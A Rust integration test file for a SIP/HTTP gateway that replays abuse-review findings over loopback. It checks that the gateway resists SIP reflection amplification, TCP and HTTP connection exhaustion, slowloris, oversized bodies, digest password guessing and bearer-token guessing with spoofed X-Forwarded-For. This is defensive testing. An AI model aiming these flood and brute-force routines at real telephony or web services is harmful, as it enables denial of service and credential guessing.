//! The abuse suite: each finding of the abuse review, reproduced against
//! the real binary over loopback. Attackers speak from 127.0.0.2 (and
//! 127.0.0.3), legitimate parties from 127.0.0.1; every test checks both
//! that the attack is cut and that the legitimate party keeps working.

mod common;

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

// ---- helpers ----

/// A TCP connection to `dest` from the local address `from` (any
/// 127.0.0.x), as a blocking std stream.
fn tcp_from(from: &str, dest: SocketAddr) -> std::io::Result<TcpStream> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_io()
        .build()?;
    let local = SocketAddr::new(from.parse::<IpAddr>().expect("an IP"), 0);
    rt.block_on(async move {
        let sock = tokio::net::TcpSocket::new_v4()?;
        sock.bind(local)?;
        let stream = sock.connect(dest).await?;
        let std = stream.into_std()?;
        std.set_nonblocking(false)?;
        Ok(std)
    })
}

/// Has the server closed `s`? (EOF or reset; data counts as open.)
/// Looks without waiting.
fn closed_now(s: &mut TcpStream) -> bool {
    s.set_nonblocking(true).unwrap();
    let mut buf = [0u8; 4096];
    let closed = loop {
        match s.read(&mut buf) {
            Ok(0) => break true,
            Ok(_) => continue,
            Err(e) if e.kind() == ErrorKind::WouldBlock => break false,
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => break true,
        }
    };
    s.set_nonblocking(false).unwrap();
    closed
}

/// `conns` split into (still open, closed by the server) right now.
fn split_open(conns: Vec<TcpStream>) -> (Vec<TcpStream>, Vec<TcpStream>) {
    let (mut open, mut closed) = (Vec::new(), Vec::new());
    for mut s in conns {
        if closed_now(&mut s) {
            closed.push(s);
        } else {
            open.push(s);
        }
    }
    (open, closed)
}

/// Read `s` until the server closes it or `deadline`; true if it closed.
fn closed_by(s: &mut TcpStream, deadline: Instant) -> bool {
    let mut buf = [0u8; 4096];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return false;
        }
        s.set_read_timeout(Some(left)).unwrap();
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                return false
            }
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => return true,
        }
    }
}

/// Every datagram `sock` receives until `until`.
fn datagrams_until(sock: &UdpSocket, until: Instant) -> Vec<String> {
    let mut got = Vec::new();
    let mut buf = [0u8; 65_535];
    loop {
        let left = until.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return got;
        }
        sock.set_read_timeout(Some(left)).unwrap();
        match sock.recv_from(&mut buf) {
            Ok((n, _)) => got.push(String::from_utf8_lossy(&buf[..n]).into_owned()),
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => return got,
        }
    }
}

/// The first datagram within `timeout`.
fn one_datagram(sock: &UdpSocket, timeout: Duration) -> Option<String> {
    let mut buf = [0u8; 65_535];
    sock.set_read_timeout(Some(timeout)).unwrap();
    sock.recv_from(&mut buf)
        .ok()
        .map(|(n, _)| String::from_utf8_lossy(&buf[..n]).into_owned())
}

fn status_of(msg: &str) -> u16 {
    msg.strip_prefix("SIP/2.0 ")
        .and_then(|r| r.get(..3))
        .and_then(|c| c.parse().ok())
        .unwrap_or(0)
}

/// A header's value (first occurrence, name case-insensitive).
fn header<'a>(msg: &'a str, name: &str) -> Option<&'a str> {
    msg.split("\r\n\r\n").next()?.lines().find_map(|l| {
        let (k, v) = l.split_once(':')?;
        k.trim().eq_ignore_ascii_case(name).then_some(v.trim())
    })
}

fn branch_of(msg: &str) -> String {
    header(msg, "Via")
        .and_then(|v| v.split(";branch=").nth(1))
        .map(|b| b.split(';').next().unwrap_or(b).to_string())
        .unwrap_or_default()
}

/// SIPp from the local address `ip` (the common helper always uses
/// 127.0.0.1), run to completion within `timeout`.
fn sipp_from(ip: &str, args: &[&str], timeout: Duration) -> Sipp {
    require("sipp", "sip-tester");
    let dir = tempfile::tempdir().unwrap();
    let pcap_dir =
        std::env::var("CROSSLINE_SIPP_PCAP_DIR").unwrap_or_else(|_| "/usr/share/sip-tester".into());
    let _ = std::os::unix::fs::symlink(&pcap_dir, dir.path().join("pcap"));
    let port = free_port().to_string();
    let media_port = free_port();
    let output = Command::new("timeout")
        .args(["-s", "KILL", &timeout.as_secs().to_string(), "sipp"])
        .args(args)
        .args(["-i", ip, "-p", &port, "-mp", &media_port.to_string()])
        .args(["-nostdin", "-trace_err", "-trace_stat", "-fd", "1"])
        .current_dir(dir.path())
        .stdin(Stdio::null())
        .output()
        .expect("run sipp");
    Sipp {
        output,
        dir,
        media_port,
    }
}

/// One HTTP/1.1 request (Connection: close) to 127.0.0.1:`port` from the
/// local address `from`. Write errors are ignored (a server may answer
/// and close before reading a large body).
fn http_from(
    from: &str,
    port: u16,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: Option<&[u8]>,
) -> HttpReply {
    let mut s = tcp_from(from, SocketAddr::from(([127, 0, 0, 1], port))).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut req = format!("{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n");
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    if let Some(b) = body {
        req.push_str(&format!(
            "Content-Type: application/json\r\nContent-Length: {}\r\n",
            b.len()
        ));
    }
    req.push_str("\r\n");
    let mut bytes = req.into_bytes();
    bytes.extend_from_slice(body.unwrap_or_default());
    let _ = s.write_all(&bytes);
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    let text = String::from_utf8_lossy(&raw).into_owned();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    HttpReply {
        status,
        headers: head.to_ascii_lowercase(),
        raw_headers: head.to_string(),
        body: body.to_string(),
    }
}

fn md5_hex(s: &str) -> String {
    use md5::{Digest, Md5};
    Md5::digest(s.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A parameter of a Digest challenge (quoted or not).
fn digest_param(challenge: &str, name: &str) -> Option<String> {
    let rest = challenge.trim().strip_prefix("Digest")?;
    rest.split(',').find_map(|p| {
        let (k, v) = p.split_once('=')?;
        k.trim()
            .eq_ignore_ascii_case(name)
            .then(|| v.trim().trim_matches('"').to_string())
    })
}

/// A Proxy-Authorization answering `challenge` (RFC 2617, MD5, qop=auth).
fn digest_answer(challenge: &str, user: &str, password: &str, method: &str, uri: &str) -> String {
    let realm = digest_param(challenge, "realm").expect("realm");
    let nonce = digest_param(challenge, "nonce").expect("nonce");
    let (nc, cnonce) = ("00000001", "0a4f113b");
    let ha1 = md5_hex(&format!("{user}:{realm}:{password}"));
    let ha2 = md5_hex(&format!("{method}:{uri}"));
    let response = md5_hex(&format!("{ha1}:{nonce}:{nc}:{cnonce}:auth:{ha2}"));
    let mut out = format!(
        "Digest username=\"{user}\", realm=\"{realm}\", nonce=\"{nonce}\", uri=\"{uri}\", \
         response=\"{response}\", algorithm=MD5, cnonce=\"{cnonce}\", nc={nc}, qop=auth"
    );
    if let Some(opaque) = digest_param(challenge, "opaque") {
        out.push_str(&format!(", opaque=\"{opaque}\""));
    }
    out
}

/// A raw UDP SIP peer on a local address of its own.
struct Peer {
    sock: UdpSocket,
    me: SocketAddr,
    gw: String,
}

impl Peer {
    fn new(ip: &str, gw: &Gateway) -> Peer {
        let sock = UdpSocket::bind((ip, 0)).unwrap();
        let me = sock.local_addr().unwrap();
        Peer {
            sock,
            me,
            gw: gw.sip_addr(),
        }
    }

    fn send(&self, msg: &str) -> usize {
        self.sock.send_to(msg.as_bytes(), &self.gw).unwrap()
    }

    fn uri(&self) -> String {
        format!("sip:service@{}", self.gw)
    }

    /// An INVITE with an SDP offer; `extra` is more header lines.
    fn invite(&self, branch: &str, call_id: &str, cseq: u32, to_tag: &str, extra: &str) -> String {
        let sdp = format!(
            "v=0\r\no=- 1 1 IN IP4 {ip}\r\ns=-\r\nc=IN IP4 {ip}\r\nt=0 0\r\nm=audio {port} RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n",
            ip = self.me.ip(),
            port = free_port()
        );
        // A tag is a token: no '@'.
        let from_tag: String = call_id
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
            .collect();
        let to_tag = if to_tag.is_empty() {
            String::new()
        } else {
            format!(";tag={to_tag}")
        };
        format!(
            "INVITE {uri} SIP/2.0\r\nVia: SIP/2.0/UDP {me};branch=z9hG4bK{branch}\r\nMax-Forwards: 70\r\n\
             From: <sip:abuser@{me}>;tag=f-{from_tag}\r\nTo: <{uri}>{to_tag}\r\nCall-ID: {call_id}\r\n\
             CSeq: {cseq} INVITE\r\nContact: <sip:abuser@{me}>\r\n{extra}\
             Content-Type: application/sdp\r\nContent-Length: {len}\r\n\r\n{sdp}",
            uri = self.uri(),
            me = self.me,
            len = sdp.len(),
        )
    }

    fn cancel(&self, branch: &str, call_id: &str) -> String {
        format!(
            "CANCEL {uri} SIP/2.0\r\nVia: SIP/2.0/UDP {me};branch=z9hG4bK{branch}\r\nMax-Forwards: 70\r\n\
             From: <sip:abuser@{me}>;tag=c-{branch}\r\nTo: <{uri}>\r\nCall-ID: {call_id}\r\n\
             CSeq: 1 CANCEL\r\nContent-Length: 0\r\n\r\n",
            uri = self.uri(),
            me = self.me,
        )
    }

    fn options(&self, branch: &str) -> String {
        format!(
            "OPTIONS {uri} SIP/2.0\r\nVia: SIP/2.0/UDP {me};branch=z9hG4bK{branch}\r\nMax-Forwards: 70\r\n\
             From: <sip:abuser@{me}>;tag=o-{branch}\r\nTo: <{uri}>\r\nCall-ID: {branch}@options\r\n\
             CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n",
            uri = self.uri(),
            me = self.me,
        )
    }

    /// The ACK for a final non-2xx answer to `invite` (same branch).
    fn ack_for(&self, invite: &str, answer: &str) {
        let via = header(invite, "Via").unwrap();
        let from = header(invite, "From").unwrap();
        let to = header(answer, "To").unwrap();
        let call_id = header(invite, "Call-ID").unwrap();
        let seq = header(invite, "CSeq").unwrap().split(' ').next().unwrap();
        self.send(&format!(
            "ACK {uri} SIP/2.0\r\nVia: {via}\r\nMax-Forwards: 70\r\nFrom: {from}\r\nTo: {to}\r\n\
             Call-ID: {call_id}\r\nCSeq: {seq} ACK\r\nContent-Length: 0\r\n\r\n",
            uri = self.uri()
        ));
    }

    /// Send `msg` and wait for its final answer (1xx skipped).
    fn final_answer(&self, msg: &str, timeout: Duration) -> Option<String> {
        self.send(msg);
        let deadline = Instant::now() + timeout;
        let branch = branch_of(msg);
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return None;
            }
            let got = one_datagram(&self.sock, left)?;
            if status_of(&got) >= 200 && branch_of(&got) == branch {
                return Some(got);
            }
        }
    }
}

// ---- the findings ----

/// INVITEs with a To tag for no dialog of ours and CANCELs for nothing
/// used to skip the per-source rate and each drew a 481 that Timer G
/// repeated: a reflection amplifier. Now they pay the rate, and a refusal
/// sent before any 1xx goes out once per request received.
#[test]
fn unknown_dialog_invites_and_cancels_are_rate_limited_and_never_amplified() {
    require("sipp", "sip-tester");
    let (rate, burst) = (5.0, 5.0);
    let gw = Gateway::start(
        "[sip]\nexempt_sources = [\"127.0.0.1/32\"]\nrate_limit_per_source = 5.0\nrate_limit_burst = 5.0\n",
    );
    let attacker = Peer::new("127.0.0.2", &gw);

    // One stray INVITE on a fresh gateway: exactly one 481, no Timer G.
    let stray = attacker.invite("single1", "single1@abuse", 1, "no-such-dialog", "");
    attacker.send(&stray);
    let got = datagrams_until(&attacker.sock, Instant::now() + Duration::from_secs(5));
    assert_eq!(
        got.iter().map(|m| status_of(m)).collect::<Vec<_>>(),
        vec![481],
        "one stray INVITE, answers: {got:#?}"
    );
    // It is answered again only when the INVITE itself is retransmitted.
    attacker.send(&stray);
    let again = datagrams_until(&attacker.sock, Instant::now() + Duration::from_millis(1500));
    assert_eq!(
        again.iter().map(|m| status_of(m)).collect::<Vec<_>>(),
        vec![481],
        "the retransmitted INVITE's answers: {again:#?}"
    );
    // The bucket refills (1 s at 5/s covers the two tokens spent).
    std::thread::sleep(Duration::from_millis(1200));

    // Meanwhile a legitimate caller from 127.0.0.1 places its calls.
    let addr = gw.sip_addr();
    let caller = std::thread::spawn(move || {
        sipp(
            &["-sn", "uac", &addr, "-m", "5", "-r", "5", "-d", "200"],
            Duration::from_secs(30),
        )
    });
    std::thread::sleep(Duration::from_millis(300));

    // The attack: 50 stray INVITEs and 50 CANCELs for nothing, over ~1 s.
    let start = Instant::now();
    let mut sent_bytes = 0usize;
    for i in 0..50 {
        sent_bytes += attacker.send(&attacker.invite(
            &format!("inv{i}"),
            &format!("stray{i}@abuse"),
            1,
            &format!("t{i}"),
            "",
        ));
        sent_bytes +=
            attacker.send(&attacker.cancel(&format!("can{i}"), &format!("none{i}@abuse")));
        std::thread::sleep(Duration::from_millis(20));
    }
    let sending = start.elapsed().as_secs_f64();
    let answers = datagrams_until(&attacker.sock, start + Duration::from_secs(4));
    let received_bytes: usize = answers.iter().map(String::len).sum();
    let allowed = (burst + rate * sending).ceil() as usize + 1;
    assert!(
        !answers.is_empty() && answers.len() <= allowed,
        "{} answers to 100 requests sent over {sending:.2}s (burst {burst}, rate {rate}/s: at most {allowed}):\n{answers:#?}",
        answers.len()
    );
    assert!(
        answers.iter().all(|m| status_of(m) == 481),
        "every answer is a 481: {answers:#?}"
    );
    let mut branches: Vec<String> = answers.iter().map(|m| branch_of(m)).collect();
    branches.sort();
    let n = branches.len();
    branches.dedup();
    assert_eq!(branches.len(), n, "a 481 was repeated: {answers:#?}");
    assert!(
        received_bytes <= 3 * sent_bytes,
        "amplification: {received_bytes} bytes back for {sent_bytes} sent"
    );

    let calls = caller.join().unwrap();
    assert!(calls.ok(), "the legitimate caller: {}", calls.describe());
    assert_eq!(
        calls.stat("SuccessfulCall(C)"),
        Some(5),
        "{}",
        calls.describe()
    );
    assert_metric_at_least(
        &gw,
        "crossline_sip_dropped_total{reason=\"rate_limited\"}",
        (100 - answers.len()) as f64,
    );
}

/// TCP: one address holds at most its share of connections (the rest are
/// closed at accept), silent connections are closed after tcp_idle_secs,
/// and another source connects and is served throughout.
#[test]
fn tcp_slots_per_source_and_idle_timeout() {
    let gw = Gateway::start("[sip]\nmax_tcp_connections_per_source = 8\ntcp_idle_secs = 2\n");
    let dest: SocketAddr = gw.sip_addr().parse().unwrap();
    let opened = Instant::now();
    let conns: Vec<TcpStream> = (0..30)
        .map(|i| tcp_from("127.0.0.2", dest).unwrap_or_else(|e| panic!("connect {i}: {e}")))
        .collect();
    std::thread::sleep(Duration::from_millis(400));
    let (mut open, closed) = split_open(conns);
    assert_eq!(
        open.len(),
        8,
        "connections from 127.0.0.2 still open: {} (closed: {})",
        open.len(),
        closed.len()
    );
    drop(closed);

    // A carrier on another address connects and is answered.
    let options = |branch: &str, me: SocketAddr| {
        format!(
            "OPTIONS sip:{gw} SIP/2.0\r\nVia: SIP/2.0/TCP {me};branch=z9hG4bK{branch}\r\n\
             Max-Forwards: 70\r\nFrom: <sip:carrier@{me}>;tag=c\r\nTo: <sip:{gw}>\r\n\
             Call-ID: tcp-{branch}\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n",
            gw = gw.sip_addr()
        )
    };
    let ask = |s: &mut TcpStream, branch: &str| {
        let me = s.local_addr().unwrap();
        s.write_all(options(branch, me).as_bytes()).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let mut buf = [0u8; 4096];
        let n = s.read(&mut buf).unwrap_or(0);
        String::from_utf8_lossy(&buf[..n]).into_owned()
    };
    let mut carrier = TcpStream::connect(dest).unwrap();
    let answer = ask(&mut carrier, "carrier1");
    assert!(answer.starts_with("SIP/2.0 200"), "carrier: {answer:?}");

    // The silent ones are held until idle for 2 s, then closed by the
    // server.
    std::thread::sleep(
        (opened + Duration::from_millis(1200)).saturating_duration_since(Instant::now()),
    );
    let early = open.iter_mut().map(closed_now).filter(|c| *c).count();
    assert_eq!(early, 0, "idle connections closed before tcp_idle_secs");
    let deadline = opened + Duration::from_secs(5);
    for (i, s) in open.iter_mut().enumerate() {
        assert!(
            closed_by(s, deadline),
            "idle connection {i} still open after 5 s"
        );
    }
    // Their places are free again.
    let mut again = tcp_from("127.0.0.2", dest).unwrap();
    let answer = ask(&mut again, "again1");
    assert!(
        answer.starts_with("SIP/2.0 200"),
        "127.0.0.2 again: {answer:?}"
    );

    assert_metric_at_least(&gw, "crossline_tcp_rejected_per_source_total", 22.0);
    assert_metric_at_least(&gw, "crossline_tcp_idle_closed_total", 8.0);
}

const TRUNK_USER: &str = "trunkuser";
const TRUNK_PASS: &str = "trunkpass";

/// Guessing a trunk's digest password: after auth_failures_before_ban
/// wrong answers the source is banned (no answers at all), the user is
/// banned for sources that never signed in as it (403 unchecked), and the
/// real PBX, which signed in before, keeps placing calls.
#[test]
fn digest_guessing_bans_the_source_but_not_the_carrier() {
    require("sipp", "sip-tester");
    let gw = Gateway::start(&format!(
        "[sip]\nauth_failures_before_ban = 5\nauth_ban_secs = 30\n\n\
         [[trunks]]\nname = \"pbx\"\ninbound_username = \"{TRUNK_USER}\"\ninbound_password = \"{TRUNK_PASS}\"\ninbound_digest_algorithms = [\"MD5\"]\n"
    ));
    // uac_auth.xml answers the challenge as trunkuser/trunkpass.
    let pbx_calls = |n: &str| {
        sipp(
            &[
                "-sf",
                &scenario("uac_auth.xml"),
                &gw.sip_addr(),
                "-m",
                n,
                "-l",
                "1",
            ],
            Duration::from_secs(30),
        )
    };
    // The PBX signs in once from 127.0.0.1.
    let first = pbx_calls("1");
    assert_eq!(
        first.stat("SuccessfulCall(C)"),
        Some(1),
        "{}",
        first.describe()
    );

    // The guesser at 127.0.0.2 answers each challenge with a wrong password.
    let guesser = Peer::new("127.0.0.2", &gw);
    let call_id = "guess@abuse";
    let first_try = guesser.invite("g0", call_id, 1, "", "");
    let mut challenge = guesser
        .final_answer(&first_try, Duration::from_secs(3))
        .expect("a challenge");
    assert_eq!(status_of(&challenge), 407, "{challenge}");
    guesser.ack_for(&first_try, &challenge);
    for i in 1..=5u32 {
        let auth = digest_answer(
            header(&challenge, "Proxy-Authenticate").expect("Proxy-Authenticate"),
            TRUNK_USER,
            &format!("guess-{i}"),
            "INVITE",
            &guesser.uri(),
        );
        let guess = guesser.invite(
            &format!("g{i}"),
            call_id,
            1 + i,
            "",
            &format!("Proxy-Authorization: {auth}\r\n"),
        );
        challenge = guesser
            .final_answer(&guess, Duration::from_secs(3))
            .unwrap_or_else(|| panic!("no answer to wrong guess {i}"));
        assert_eq!(status_of(&challenge), 407, "guess {i}: {challenge}");
        guesser.ack_for(&guess, &challenge);
    }
    // Five failures: the source is banned. Nothing is answered, not even
    // the right password or an OPTIONS.
    let auth = digest_answer(
        header(&challenge, "Proxy-Authenticate").unwrap(),
        TRUNK_USER,
        "guess-6",
        "INVITE",
        &guesser.uri(),
    );
    let sixth = guesser.invite(
        "g6",
        call_id,
        7,
        "",
        &format!("Proxy-Authorization: {auth}\r\n"),
    );
    assert_eq!(
        guesser.final_answer(&sixth, Duration::from_millis(1500)),
        None
    );
    let auth = digest_answer(
        header(&challenge, "Proxy-Authenticate").unwrap(),
        TRUNK_USER,
        TRUNK_PASS,
        "INVITE",
        &guesser.uri(),
    );
    let right = guesser.invite(
        "g7",
        call_id,
        8,
        "",
        &format!("Proxy-Authorization: {auth}\r\n"),
    );
    assert_eq!(
        guesser.final_answer(&right, Duration::from_millis(1500)),
        None
    );
    assert_eq!(
        guesser.final_answer(&guesser.options("gopt"), Duration::from_millis(1500)),
        None,
        "a banned source's OPTIONS"
    );

    // The user is banned too: a source that never signed in as it gets
    // 403 without its answer being checked, even a right one.
    let stranger = Peer::new("127.0.0.3", &gw);
    let bare = stranger.invite("s0", "stranger@abuse", 1, "", "");
    let ch = stranger
        .final_answer(&bare, Duration::from_secs(3))
        .expect("a challenge for the stranger");
    assert_eq!(status_of(&ch), 407, "{ch}");
    stranger.ack_for(&bare, &ch);
    let auth = digest_answer(
        header(&ch, "Proxy-Authenticate").unwrap(),
        TRUNK_USER,
        TRUNK_PASS,
        "INVITE",
        &stranger.uri(),
    );
    let signed = stranger.invite(
        "s1",
        "stranger@abuse",
        2,
        "",
        &format!("Proxy-Authorization: {auth}\r\n"),
    );
    let refused = stranger
        .final_answer(&signed, Duration::from_secs(3))
        .expect("an answer to the stranger");
    assert_eq!(status_of(&refused), 403, "{refused}");
    stranger.ack_for(&signed, &refused);

    // The PBX that signed in before still places its calls.
    let later = pbx_calls("2");
    assert!(later.ok(), "the PBX after the attack: {}", later.describe());
    assert_eq!(
        later.stat("SuccessfulCall(C)"),
        Some(2),
        "{}",
        later.describe()
    );

    assert_metric_at_least(&gw, "crossline_sip_bans_total{kind=\"source\"}", 1.0);
    assert_metric_at_least(&gw, "crossline_sip_bans_total{kind=\"user\"}", 1.0);
    assert_metric_at_least(
        &gw,
        "crossline_sip_auth_failures_total{reason=\"wrong\"}",
        5.0,
    );
    assert_metric_at_least(
        &gw,
        "crossline_sip_auth_failures_total{reason=\"user_banned\"}",
        1.0,
    );
    assert_metric_at_least(&gw, "crossline_sip_dropped_total{reason=\"banned\"}", 3.0);
}

/// With no trunk declared, one source (outside exempt_sources) may hold
/// only its share of calls: over it, 503 with Retry-After; other sources
/// keep calling.
#[test]
fn one_source_cannot_take_every_port() {
    require("sipp", "sip-tester");
    let gw =
        Gateway::start("[sip]\nexempt_sources = [\"127.0.0.1/32\"]\nmax_calls_per_source = 3\n");
    let addr = gw.sip_addr();
    let hog = std::thread::spawn(move || {
        sipp_from(
            "127.0.0.2",
            &[
                "-sn", "uac", &addr, "-m", "10", "-l", "10", "-r", "20", "-d", "6000",
            ],
            Duration::from_secs(30),
        )
    });
    std::thread::sleep(Duration::from_millis(2000));
    // While the hog holds its three: one more INVITE from it gets a 503
    // with Retry-After.
    let probe = Peer::new("127.0.0.2", &gw);
    let invite = probe.invite("share1", "share1@abuse", 1, "", "");
    let answer = probe
        .final_answer(&invite, Duration::from_secs(3))
        .expect("an answer over the share");
    assert_eq!(status_of(&answer), 503, "{answer}");
    assert!(header(&answer, "Retry-After").is_some(), "{answer}");
    probe.ack_for(&invite, &answer);
    // Calls from 127.0.0.1 complete meanwhile.
    let other = sipp(
        &[
            "-sn",
            "uac",
            &gw.sip_addr(),
            "-m",
            "5",
            "-r",
            "10",
            "-d",
            "200",
        ],
        Duration::from_secs(30),
    );
    assert!(other.ok(), "the other source: {}", other.describe());
    assert_eq!(
        other.stat("SuccessfulCall(C)"),
        Some(5),
        "{}",
        other.describe()
    );

    let hog = hog.join().unwrap();
    assert_eq!(
        hog.stat("SuccessfulCall(C)"),
        Some(3),
        "the hog's answered calls: {}",
        hog.describe()
    );
    assert_eq!(
        hog.stat("FailedCall(C)"),
        Some(7),
        "the hog's refused calls: {}",
        hog.describe()
    );
    assert_metric_at_least(
        &gw,
        "crossline_calls_refused_total{reason=\"source_share\"}",
        8.0,
    );
    // Its calls over, the source may call again.
    let after = sipp_from(
        "127.0.0.2",
        &["-sn", "uac", &gw.sip_addr(), "-m", "1", "-d", "100"],
        Duration::from_secs(20),
    );
    assert_eq!(
        after.stat("SuccessfulCall(C)"),
        Some(1),
        "{}",
        after.describe()
    );
}

const ADMIN: &str = "admin-token-0123456789abcdef";
const OPERATOR: &str = "operator-token-0123456789ab";

/// HTTP: a client trickling a request head is cut after
/// header_read_timeout_secs, one address holds at most its share of
/// connections, bodies over 64 KiB get 413, and others are served.
#[test]
fn http_slowloris_and_connection_caps() {
    let gw = Gateway::start(&format!(
        "[http]\nheader_read_timeout_secs = 2\nmax_connections_per_source = 5\noperator_token = \"{OPERATOR}\"\n"
    ));
    let dest = SocketAddr::from(([127, 0, 0, 1], gw.http_port));
    let opened = Instant::now();
    let conns: Vec<TcpStream> = (0..20)
        .map(|i| {
            let mut s = tcp_from("127.0.0.2", dest).unwrap_or_else(|e| panic!("connect {i}: {e}"));
            let _ = s.write_all(b"GET /healthz HT");
            s
        })
        .collect();
    std::thread::sleep(Duration::from_millis(400));
    let (mut open, closed) = split_open(conns);
    assert_eq!(
        open.len(),
        5,
        "slow connections from 127.0.0.2 still open: {} (closed: {})",
        open.len(),
        closed.len()
    );
    drop(closed);

    // Trickle the head a byte at a time; the server cuts each within the
    // header-read timeout. Meanwhile 127.0.0.1 is served.
    let (status, body) = gw.http_get("/healthz");
    assert_eq!((status, body.as_str()), (200, "ok\n"));
    let trickle = b"TP/1.1\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    let mut closed_at: Vec<Option<Duration>> = vec![None; open.len()];
    let mut k = 0;
    while closed_at.iter().any(Option::is_none) && opened.elapsed() < Duration::from_secs(6) {
        for (i, s) in open.iter_mut().enumerate() {
            if closed_at[i].is_some() {
                continue;
            }
            if closed_now(s) {
                closed_at[i] = Some(opened.elapsed());
                continue;
            }
            let _ = s.write_all(&trickle[k % trickle.len()..k % trickle.len() + 1]);
        }
        k += 1;
        std::thread::sleep(Duration::from_millis(200));
    }
    for (i, at) in closed_at.iter().enumerate() {
        let at = at.unwrap_or_else(|| panic!("slow connection {i} still open after 6 s"));
        assert!(
            at >= Duration::from_millis(1500) && at <= Duration::from_millis(3500),
            "slow connection {i} closed after {at:?} (header_read_timeout_secs = 2)"
        );
    }
    assert_eq!(gw.http_get("/healthz").0, 200);
    // Its places are free again.
    assert_eq!(
        http_from("127.0.0.2", gw.http_port, "GET", "/healthz", &[], None).status,
        200
    );

    assert_metric_at_least(
        &gw,
        "crossline_http_connections_refused_total{cap=\"per_source\"}",
        15.0,
    );

    // Bodies over 64 KiB are refused with 413, on every route taking one.
    let big = format!("{{\"name\": \"{}\"}}", "x".repeat(100 * 1024));
    let bearer = format!("Bearer {OPERATOR}");
    let mut wrong = Vec::new();
    for (path, headers) in [
        ("/v1/leads", vec![("Authorization", bearer.as_str())]),
        ("/v1/console/session", vec![]),
        ("/chat/call?c=nobody", vec![]),
    ] {
        let r = http_from(
            "127.0.0.1",
            gw.http_port,
            "POST",
            path,
            &headers,
            Some(big.as_bytes()),
        );
        if r.status != 413 {
            wrong.push(format!("POST {path} with 100 KiB: {} {}", r.status, r.body));
        }
    }
    assert!(wrong.is_empty(), "not 413:\n{}", wrong.join("\n"));
}

/// With admin_listen set, /metrics and the console live only there.
#[test]
fn admin_listener_holds_metrics_and_console() {
    let admin_port = free_port();
    let gw = Gateway::start(&format!(
        "[http]\nadmin_listen = \"127.0.0.1:{admin_port}\"\n"
    ));
    let get = |port: u16, path: &str| http_from("127.0.0.1", port, "GET", path, &[], None);
    for path in ["/metrics", "/console/"] {
        let public = get(gw.http_port, path);
        assert_eq!(public.status, 404, "public {path}: {}", public.body);
        let admin = get(admin_port, path);
        assert_eq!(admin.status, 200, "admin {path}: {}", admin.body);
    }
    assert!(get(admin_port, "/metrics").body.contains("crossline_"));
    for port in [gw.http_port, admin_port] {
        let r = get(port, "/healthz");
        assert_eq!((r.status, r.body.as_str()), (200, "ok\n"), "port {port}");
    }
}

/// Guessing the /v1 bearer: each client (as told by a trusted proxy's
/// X-Forwarded-For) backs off on its own; a header from anyone else is
/// ignored, so rotating it does not help an attacker.
#[test]
fn bearer_guesses_back_off_per_client() {
    let gw = Gateway::start(&format!(
        "[http]\nadmin_token = \"{ADMIN}\"\noperator_token = \"{OPERATOR}\"\ntrusted_proxies = [\"127.0.0.1/32\"]\n"
    ));
    let calls = |from: &str, token: &str, xff: Option<&str>| {
        let auth = format!("Bearer {token}");
        let mut h = vec![("Authorization", auth.as_str())];
        if let Some(x) = xff {
            h.push(("X-Forwarded-For", x));
        }
        http_from(from, gw.http_port, "GET", "/v1/calls", &h, None)
    };
    let mut statuses = Vec::new();
    for i in 0..10 {
        let r = calls(
            "127.0.0.1",
            &format!("wrong-guess-{i:02}-abcdefghij"),
            Some("203.0.113.7"),
        );
        if r.status == 429 {
            assert!(r.headers.contains("retry-after: "), "{}", r.headers);
        }
        statuses.push(r.status);
    }
    assert!(
        statuses[..5].iter().all(|s| *s == 401),
        "the first guesses are checked: {statuses:?}"
    );
    assert!(
        statuses[6..].iter().all(|s| *s == 429),
        "the later guesses are refused unchecked: {statuses:?}"
    );
    // While it backs off, that client's right token is not checked either.
    assert_eq!(
        calls("127.0.0.1", OPERATOR, Some("203.0.113.7")).status,
        429
    );
    // Another client behind the proxy, and the proxy itself, get in at once.
    let r = calls("127.0.0.1", OPERATOR, Some("203.0.113.8"));
    assert_eq!(r.status, 200, "{}", r.body);
    let r = calls("127.0.0.1", OPERATOR, None);
    assert_eq!(r.status, 200, "{}", r.body);

    // From an address that is no proxy, X-Forwarded-For is ignored: a
    // guesser rotating it still backs off as itself.
    let mut statuses = Vec::new();
    for i in 0..8 {
        let xff = format!("198.51.100.{i}");
        statuses.push(
            calls(
                "127.0.0.2",
                &format!("wrong-{i:02}-abcdefghijklmn"),
                Some(&xff),
            )
            .status,
        );
    }
    assert!(
        statuses[6..].iter().all(|s| *s == 429),
        "a rotating X-Forwarded-For from a non-proxy: {statuses:?}"
    );
    assert_eq!(
        calls("127.0.0.1", OPERATOR, Some("198.51.100.200")).status,
        200
    );

    assert_metric_at_least(
        &gw,
        "crossline_http_auth_failures_total{reason=\"throttled\"}",
        5.0,
    );
}

/// The Server header names the product, not its version.
#[test]
fn server_header_carries_no_version() {
